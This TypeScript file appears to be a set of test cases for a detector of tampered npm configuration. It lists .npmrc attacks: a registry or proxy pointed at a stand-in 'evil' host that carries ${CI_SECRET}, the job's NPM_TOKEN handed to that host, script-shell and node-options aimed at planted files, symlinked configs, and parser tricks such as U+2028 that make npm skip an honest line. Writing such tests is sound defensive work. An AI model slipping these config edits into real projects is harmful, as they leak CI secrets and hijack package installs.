// Kind 3: configuration as npm reads it. Only spellings that npm obeys are attacks.

import { plain, project, root, type Row } from '../row.ts'
import { append, ask, edits, relock, remove, write, type Make } from '../state.ts'
import type { Stage } from '../stage.ts'

const rule = 'tampering'
const bump = edits(ask('orc-foo', '1.0.1'), relock)

/** A base with an `.npmrc`, and a scoped package and a script for it to bear on. */
const configured =
  (npmrc: string | ((stage: Stage) => string)): Make =>
  async (stage) => ({
    ...(await project({
      'package.json': root({
        dependencies: { 'orc-foo': '1.0.0', '@orc/scoped': '1.0.0', 'orc-native': '1.0.0' },
      }),
    })(stage)),
    '.npmrc': typeof npmrc === 'function' ? npmrc(stage) : npmrc,
  })

// The registry stands in the project's own file as well, so that what says the same again changes nothing.
const base = configured(({ registry }) => `registry=${registry}\n`)

/** How a key and a value can be written so that npm reads just them; the first is the plain one. */
export const spellings: Readonly<Record<string, (key: string, value: string) => string>> = {
  plainly: (key, value) => `${key}=${value}\n`,
  'with a reference in the key': (key, value) => `${key.slice(0, 3)}\${NOPE?}${key.slice(3)}=${value}\n`,
  'below a section line that begins with a blank': (key, value) => ` [x]\n${key}=${value}\n`,
  'after the same key in capitals': (key, value) => `${key}=${value}\n${key.toUpperCase()}=other\n`,
  'as a quoted JSON key': (key, value) =>
    `"${key.slice(0, -1)}\\u${key
      .charCodeAt(key.length - 1)
      .toString(16)
      .padStart(4, '0')}"=${value}\n`,
  'as a JSON key in single quotes': (key, value) => `'"${key}"'=${value}\n`,
  'with blanks and quotes around': (key, value) => `  ${key}  =  "${value}"  \n`,
  'with a comment behind': (key, value) => `${key}=${value} ; fine\n`,
  'as the last of two': (key, value) => `${key}=other\n${key}=${value}\n`,
  'with the end of lines of Windows': (key, value) => `fund=false\r\n${key}=${value}\r\n`,
  'with a reference in the value': (key, value) => `${key}=${value.slice(0, 2)}\${NOPE?}${value.slice(2)}\n`,
}

/** What the environment decides can be anything in the job that installs: nobody writes it for what it is here. */
const exitOf = (how: string): Pick<Row, 'twinExit'> =>
  how.includes('reference') ? { twinExit: { code: 1, why: 'the environment decides what it is' } } : {}

const toEvil = ({ evil }: Stage) => `${evil}\${CI_SECRET}/`
const shell = '#!/bin/sh\necho "file:run.sh ran" >> "$ORACLE_MARKS"\n'

const registry: readonly Row[] = Object.entries(spellings).map(([how, spell]) => ({
  name: `registry, ${how}`,
  rule,
  base,
  attack: append('.npmrc', (stage) => spell('registry', toEvil(stage))),
  twin: append('.npmrc', (stage) => spell('registry', stage.registry)),
  ...exitOf(how),
}))

const shells: readonly Row[] = Object.entries(spellings).map(([how, spell]) => ({
  name: `script-shell, ${how}`,
  rule,
  base,
  attack: edits(
    write({ 'run.sh': shell }),
    append('.npmrc', () => spell('script-shell', '../../run.sh')),
  ),
}))

const scripts: readonly Row[] = Object.entries(spellings).map(([how, spell]) => ({
  name: `ignore-scripts=false, ${how}`,
  rule,
  base: configured('ignore-scripts=true\n'),
  attack: append('.npmrc', () => spell('ignore-scripts', 'false')),
  twin: append('.npmrc', () => spell('ignore-scripts', 'true')),
  // npm looks for the words true and false before it expands references: what is "false" after that is a text, and true.
  ...(how === 'with a reference in the value' ? { harmless: 'npm takes the text for true' } : {}),
  ...exitOf(how),
}))

const options: readonly Row[] = Object.entries(spellings).map(([how, spell]) => ({
  name: `node-options, ${how}`,
  rule,
  base: configured(''),
  attack: edits(
    write({ 'pre.cjs': "require('fs').appendFileSync(process.env.ORACLE_MARKS, 'file:pre.cjs ran\\n')" }),
    append('.npmrc', () => spell('node-options', '--require=./pre.cjs')),
  ),
  harmless: 'the scripts of this stage start no node',
}))

const token = ({ evil }: Stage) => `${evil.replace(/^http:/, '')}:_authToken=\${NPM_TOKEN}\n`

const others: readonly Row[] = [
  {
    name: 'prefix to a folder with a npmrc of its own',
    rule,
    base,
    attack: write((stage) => ({ '.npmrc': 'prefix=./cfg\n', 'cfg/etc/npmrc': `proxy=${toEvil(stage)}\n` })),
  },
  {
    name: 'globalconfig to a file of the checkout',
    rule,
    base,
    attack: write((stage) => ({
      '.npmrc': 'globalconfig=./cfg/npmrc\n',
      'cfg/npmrc': `proxy=${toEvil(stage)}\n`,
    })),
  },
  {
    name: 'an honest line after it that U+2028 makes npm skip',
    rule,
    base,
    attack: append('.npmrc', (stage) => `registry=${toEvil(stage)}\nregistry=${stage.registry}\u2028\n`),
    twin: append('.npmrc', (stage) => `registry=${toEvil(stage)}\u2028\n`),
  },
  {
    name: 'a proxy that sees every request',
    rule,
    base,
    attack: append('.npmrc', ({ evil }) => `proxy=${evil}\nhttps-proxy=${evil}\n`),
  },
  {
    name: "the job's token for another host",
    rule,
    base,
    attack: append('.npmrc', (stage) => `registry=${stage.evil}\n${token(stage)}`),
    twin: append('.npmrc', ({ registry: own }) => `registry=${own}\n`),
  },
  {
    name: 'a scope to another registry',
    rule,
    base: configured(({ registry: own }) => `@orc:registry=${own}\n`),
    attack: append('.npmrc', (stage) => `@orc:registry=${toEvil(stage)}\n`),
    harmless: 'what is locked has an address of its own',
    twin: append('.npmrc', ({ registry: own }) => `@orc:registry=${own}\n`),
  },
  {
    name: 'an .npmrc that is a link inside the checkout',
    rule,
    base: async (stage) => ({
      ...(await base(stage)),
      '.npmrc': '-> cfg/npmrc',
      'cfg/npmrc': `registry=${stage.registry}\n`,
    }),
    attack: append('cfg/npmrc', (stage) => `registry=${toEvil(stage)}\n`),
    twin: append('cfg/npmrc', () => '# a comment\n'),
  },
  {
    name: 'an .npmrc that becomes a link',
    rule,
    base,
    attack: write((stage) => ({ '.npmrc': '-> cfg', cfg: `registry=${toEvil(stage)}\n` })),
    twin: write(({ registry: own }) => ({ '.npmrc': '-> cfg', cfg: `registry=${own}\n` })),
  },
  {
    name: 'shrinkwrap=false, under which npm reads no lockfile',
    rule,
    base: async (stage) => ({
      ...(await project({
        'package.json': root({ dependencies: { 'orc-foo': '1.0.0', 'orc-bar': '1.0.0' } }),
      })(stage)),
      '.npmrc': 'fund=false\n',
    }),
    attack: append('.npmrc', () => 'shrinkwrap=false\n'),
    harmless: 'the newest version is the one that is locked',
    twin: append('.npmrc', () => 'shrinkwrap=true\n'),
  },
]

const loose = [
  'package-lock=false',
  'min-release-age=0',
  'strict-ssl=false',
  'allow-git=all',
  'allow-remote=all',
  'audit=false',
  'ca=x',
]
const words: readonly Row[] = loose.map((line) => ({
  name: `${line} where nothing stood before`,
  rule,
  base: plain,
  attack: write({ '.npmrc': `${line}\n` }),
  harmless: 'it changes what the next install may do, not what this one does',
}))

/** What tightens, says the same in other words or has no bearing on what is fetched. */
const honest: readonly Row[] = [
  'ignore-scripts=true\n',
  'fund=true\n',
  'save-exact=true\n',
  '; registry=http://127.0.0.2:1/\n',
  '# a comment\n',
  'engine-strict=true\n',
  'allow-git=none\n',
  'strict-ssl=true\n',
  'loglevel=warn\n',
  'min-release-age=7\n',
].map((text) => ({ name: `an .npmrc with ${text.trim()}`, base, twin: append('.npmrc', () => text) }))

export const configuration: readonly Row[] = [
  ...registry,
  ...shells,
  ...scripts,
  ...options,
  ...others,
  ...words,
  ...honest,
  {
    name: 'an .npmrc that says nothing of weight is deleted',
    base: configured('fund=false\n'),
    twin: edits(remove('.npmrc'), bump),
  },
]
